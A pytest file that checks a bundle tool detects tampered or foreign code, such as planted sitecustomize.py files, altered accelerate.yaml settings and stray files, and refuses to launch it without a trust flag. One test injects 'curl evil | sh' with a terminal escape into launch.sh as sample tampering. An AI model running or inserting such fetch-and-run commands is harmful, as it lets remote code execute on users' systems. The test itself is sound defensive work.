"""Foreign code is shown, and runs only if it is trusted."""

from pathlib import Path

import pytest

from cvbundle.archive.pack import archive_bundle
from cvbundle.bundle.bundle import Bundle
from cvbundle.bundle.verify import read_sums, sums_of
from cvbundle.compiler.build import Compiled
from cvbundle.execution.foreign_code import ForeignCode, foreign_code, require_own_code
from cvbundle.execution.launch import RunOptions, plan_launch
from cvbundle.problems import UserError
from tests.bundle.reseal import plant, resealed, sealed


def _change(path: Path, content: bytes) -> None:
    for each in (path.parent, path):
        if each.exists():
            each.chmod(0o755)
    path.write_bytes(content)


def test_code_that_this_installation_writes_is_its_own(compiled: Compiled) -> None:
    assert foreign_code(compiled.bundle, read_sums(compiled.bundle)) == []
    require_own_code(compiled.bundle, read_sums(compiled.bundle))


def test_foreign_code_is_shown_in_excerpt(compiled: Compiled) -> None:
    bundle = compiled.bundle
    script = bundle.folder / "launch.sh"
    _change(script, script.read_bytes().replace(b"set -euo pipefail", b"curl evil | sh\x1b[2J"))
    _change(bundle.folder / "code/long.py", b"x = 1\n" * 99)
    with pytest.raises(ForeignCode, match=r"code/long\.py, launch\.sh.*--trust") as refused:
        require_own_code(bundle, sums_of(bundle.folder, {}))
    assert len(refused.value.details) == 21
    assert refused.value.details[-1].endswith("more lines")
    (bundle.folder / "code/long.py").unlink()
    with pytest.raises(ForeignCode) as refused:
        require_own_code(bundle, sums_of(bundle.folder, {}))
    assert "-set -euo pipefail" in refused.value.details
    # What a terminal would obey is not passed on.
    assert "+curl evil | sh\\x1b[2J" in refused.value.details


@pytest.mark.parametrize(
    "name", ["code/evil.py", "code/sitecustomize.py", "code/torch/__init__.py", "code/venv.py"]
)
def test_code_that_this_installation_does_not_have_is_foreign(
    name: str, compiled: Compiled
) -> None:
    plant(compiled.bundle.folder, name)
    bundle = sealed(compiled.bundle.folder)
    with pytest.raises(ForeignCode, match=rf"would not write \({name}\)") as refused:
        plan_launch(Bundle(bundle))
    assert "+print('executed')" in refused.value.details
    assert plan_launch(Bundle(bundle), RunOptions(trust=True)).command


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"distributed_type", b"debug: true\ndistributed_type"),
        (b"distributed_type", b"main_training_function: evil\ndistributed_type"),
        (b"mixed_precision", b"deepspeed_config: {}\nmixed_precision"),
        (b"mixed_precision: ", b"mixed_precision:  "),
    ],
)
def test_settings_of_accelerate_that_this_installation_would_not_write_are_foreign(
    old: bytes, new: bytes, compiled: Compiled
) -> None:
    bundle = resealed(compiled.bundle.folder, "accelerate.yaml", old, new)
    with pytest.raises(ForeignCode, match=r"would not write \(accelerate\.yaml\)"):
        plan_launch(Bundle(bundle))
    assert plan_launch(Bundle(bundle), RunOptions(trust=True)).command


@pytest.mark.parametrize(
    "name", ["local/sitecustomize.py", "local/bin/python", "runs/evil.py", "runs/torch/x.py"]
)
def test_stray_files_in_a_bundle_need_trust(name: str, compiled: Compiled) -> None:
    plant(compiled.bundle.folder, name)
    stray = "/".join(name.split("/")[:2])
    with pytest.raises(UserError, match=rf"has files that no bundle has \({stray}\): .*--trust"):
        plan_launch(compiled.bundle)
    assert plan_launch(compiled.bundle, RunOptions(trust=True)).command


def test_a_stray_validation_image_needs_trust(compiled: Compiled) -> None:
    plant(compiled.bundle.folder, "validation/07.png")
    bundle = sealed(compiled.bundle.folder)
    with pytest.raises(UserError, match=r"has files that no bundle has \(validation/07\.png\)"):
        plan_launch(Bundle(bundle))


def test_files_that_our_commands_write_are_not_strays(compiled: Compiled) -> None:
    for name in ("runs/0001/run.json", "local/.paths.json.x.tmp", "local/data/a.mp4"):
        plant(compiled.bundle.folder, name, b"{}")
    archive_bundle(compiled.bundle, compiled.bundle.folder.parent / "it.tar.zst", provenance=True)
    assert plan_launch(compiled.bundle).command
